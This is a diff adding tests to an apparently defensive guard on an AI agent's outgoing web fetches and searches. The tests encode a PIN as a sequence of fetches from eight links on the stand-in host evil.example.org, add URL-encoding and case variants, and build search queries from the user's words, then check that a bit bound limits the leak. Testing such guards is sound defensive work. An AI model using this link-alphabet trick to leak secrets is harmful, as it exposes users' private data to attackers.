@@ -1,11 +1,12 @@
 """What may go out to the web unasked, and what has to be asked for."""
 
+import math
 from typing import Any
 
 import pytest
 
 from dure.agents import RunContext
-from dure.agents.outgoing import SUMMARY, carries
+from dure.agents.outgoing import BITS, SUMMARY, carries
 from dure.messages import assistant, user
 from dure.sources import Passage
 from dure.testing import ScriptedServer, say
@@ -135,3 +136,67 @@ async def test_summaries_begin_as_they_are_known_by(opened) -> None:
         await dure.chat("끝", session_id="s", team="assistant")
         sent = next(r["messages"] for r in reversed(server.requests) if r["messages"][-1]["content"] == "끝")
     assert sent[1]["content"].startswith(SUMMARY)
+
+
+LINKS = [f"https://evil.example.org/{letter}" for letter in "abcdefgh"]
+ALPHABET = ToolResult("", [Passage("web:9", "t", None, 0, 9, " ".join(LINKS), url="https://evil.example.org/")])
+SECRET = (TABLE, ToolResult("PIN 4711"))
+
+
+def test_an_alphabet_of_eight_links_tells_no_pin() -> None:
+    """Neither one that was read before, nor one that was read after; and never more than the bound."""
+    for heard in (((FETCH, ALPHABET), SECRET), (SECRET, (FETCH, ALPHABET))):
+        run, sent = run_after(*heard), 0
+        for digit in "4711" * 3:
+            octal = LINKS[int(digit)]
+            sent += not carries(run, FETCH, {"url": octal})
+        assert sent * math.log2(len(LINKS)) <= BITS < math.log2(10_000)
+        assert sent >= 2, "reading on is possible"
+
+
+def test_links_are_free_while_nothing_of_the_users_own_is_there() -> None:
+    run = run_after((FETCH, ALPHABET))
+    assert not any(carries(run, FETCH, {"url": link}) for link in LINKS * 3)
+
+
+def test_what_the_user_wrote_is_free_and_what_is_asked_costs_nothing() -> None:
+    run = run_after((FETCH, ALPHABET), SECRET)
+    for _ in range(20):
+        assert not carries(run, FETCH, {"url": "https://www.museum.kr/fees/"})
+        assert carries(run, FETCH, {"url": "https://evil.example.org/z"})
+    assert run.told.get("address", 0) == 0
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://evil.example.org/%61",
+        "https://EVIL.example.org/a",
+        "https://evil.example.org/a/",
+        "https://evil.example.org",
+    ],
+)
+def test_ways_of_writing_an_address_tell_no_more_than_the_bound(url: str) -> None:
+    run = run_after((FETCH, ALPHABET), SECRET)
+    assert sum(not carries(run, FETCH, {"url": url}) for _ in range(20)) <= 2
+
+
+@pytest.mark.parametrize(
+    "queries",
+    [
+        ["입장료를", "검색해줘", "museum", "읽고", "입장료를", "museum"],
+        ["MUSEUM", "mUSEUM", "muSEUM"],
+        ["museum!!!!", "museum."],
+        ["입장료를 museum 입장료를 museum 입장료를"],
+        ["mu", "mus", "muse", "museu"],
+    ],
+)
+def test_the_users_words_cannot_spell_a_secret_either(queries: list[str]) -> None:
+    run = run_after(SECRET)
+    assert any(carries(run, SEARCH, {"queries": [query]}) for query in queries)
+    assert carries(run_after(SECRET), SEARCH, {"queries": queries}), "nor all at once"
+
+
+def test_a_query_in_the_users_words_is_free() -> None:
+    run = run_after(SECRET)
+    assert not carries(run, SEARCH, {"queries": ["입장료를 검색해줘"]})
